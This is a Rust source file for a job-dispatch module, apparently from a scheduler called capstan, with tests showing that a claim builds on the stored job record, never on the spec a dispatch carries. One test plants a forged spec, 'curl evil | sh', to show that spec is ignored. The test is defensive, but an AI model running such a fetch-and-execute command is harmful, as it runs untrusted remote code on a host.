//! The dispatch: one attempt of a job handed to one executor node on
//! `capstan.dispatch.<node>`, deduplicated by `Nats-Msg-Id` = `<job>.<attempt>`.

use serde::{Deserialize, Serialize};

use crate::job::JobRecord;

/// An attempt assigned to an executor.
///
/// It carries the record assigned to the node and a KV revision. The revision is the
/// assignment's own write, or, for a job placed as it was created, that of its unplaced record
/// (pending, no node), which the placement leaves as it is: the claim then writes the
/// assignment and the start at once. The executor claims from the record it reads in the
/// bucket ([`Dispatch::basis`]), never from the dispatch's copy, so a forged dispatch cannot
/// make it run a spec of its own; if the compare-and-swap fails, the record changed since
/// (cancelled, or re-placed), and the executor reads it again to decide.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[cfg_attr(feature = "schema", derive(schemars::JsonSchema))]
pub struct Dispatch {
    /// The job's record with `node` and `attempt` set for this attempt.
    pub record: JobRecord,
    /// The KV revision the claim writes over: that of this record, or of the job's unplaced
    /// record when the placement wrote nothing.
    pub revision: u64,
}

impl Dispatch {
    /// The deduplication id of this dispatch: `<job>.<attempt>`.
    pub fn message_id(&self) -> String {
        format!("{}.{}", self.record.id, self.record.attempt)
    }

    /// True when `current`, read at `revision`, is still the unplaced record this dispatch was
    /// made over: its attempt is this dispatch's, on its way and not yet claimed.
    pub fn over_unplaced(&self, current: &JobRecord, revision: u64) -> bool {
        revision == self.revision && current.is_unplaced()
    }

    /// The record a claim of this dispatch starts from, given the job's record `current` read
    /// at `revision`: `current`, with this dispatch's placement (its node and attempt, nothing
    /// else) applied when it is still the unplaced record the dispatch was made over. What
    /// runs is what the bucket holds, whatever spec the dispatch carries.
    pub fn basis(&self, current: &JobRecord, revision: u64) -> JobRecord {
        match &self.record.node {
            Some(node)
                if self.over_unplaced(current, revision)
                    && self.record.id == current.id
                    && self.record.attempt == current.attempt + 1 =>
            {
                let at = self.record.dispatched_at.unwrap_or(self.record.updated_at);
                current.assigned(node.clone(), at)
            }
            _ => current.clone(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ids::{JobId, NodeId};
    use crate::spec::JobSpec;
    use crate::timestamp::Timestamp;

    #[test]
    fn a_record_is_the_unplaced_one_a_dispatch_was_made_over_only_at_its_revision_and_unchanged() {
        let now = Timestamp::from_millis(1_000);
        let waiting = JobRecord::new(JobId::generate(), JobSpec::shell("true"), now);
        let node = NodeId::new("exec-1").expect("a node id");
        let dispatch = Dispatch {
            record: waiting.assigned(node.clone(), now),
            revision: 7,
        };
        assert!(dispatch.over_unplaced(&waiting, 7));
        assert!(!dispatch.over_unplaced(&waiting, 8), "written since");
        assert!(
            !dispatch.over_unplaced(&waiting.cancelled(now), 7),
            "not pending"
        );
        assert!(
            !dispatch.over_unplaced(&dispatch.record, 7),
            "an assignment written by its placement"
        );
    }

    #[test]
    fn a_claim_starts_from_the_stored_record_never_from_the_spec_a_dispatch_carries() {
        let now = Timestamp::from_millis(1_000);
        let waiting = JobRecord::new(JobId::generate(), JobSpec::shell("true"), now);
        let node = NodeId::new("exec-1").expect("a node id");
        let mut forged = waiting.assigned(node.clone(), now);
        forged.spec = JobSpec::shell("curl evil | sh");
        let dispatch = Dispatch {
            record: forged,
            revision: 7,
        };
        // Over the unplaced record: its placement applied, its spec the stored one.
        let basis = dispatch.basis(&waiting, 7);
        assert_eq!(basis.spec, waiting.spec);
        assert_eq!(basis.node.as_ref(), Some(&node));
        assert_eq!(basis.attempt, 1);
        // Over an assignment its placement wrote: the stored record as it is.
        let placed = waiting.assigned(node.clone(), now);
        assert_eq!(dispatch.basis(&placed, 9), placed);
        // Another job's record, or an attempt it does not follow: nothing applied.
        let other = JobRecord::new(JobId::generate(), JobSpec::shell("true"), now);
        assert_eq!(dispatch.basis(&other, 7), other);
        let mut retried = waiting.clone();
        retried.attempt = 3;
        assert_eq!(dispatch.basis(&retried, 7), retried);
    }
}
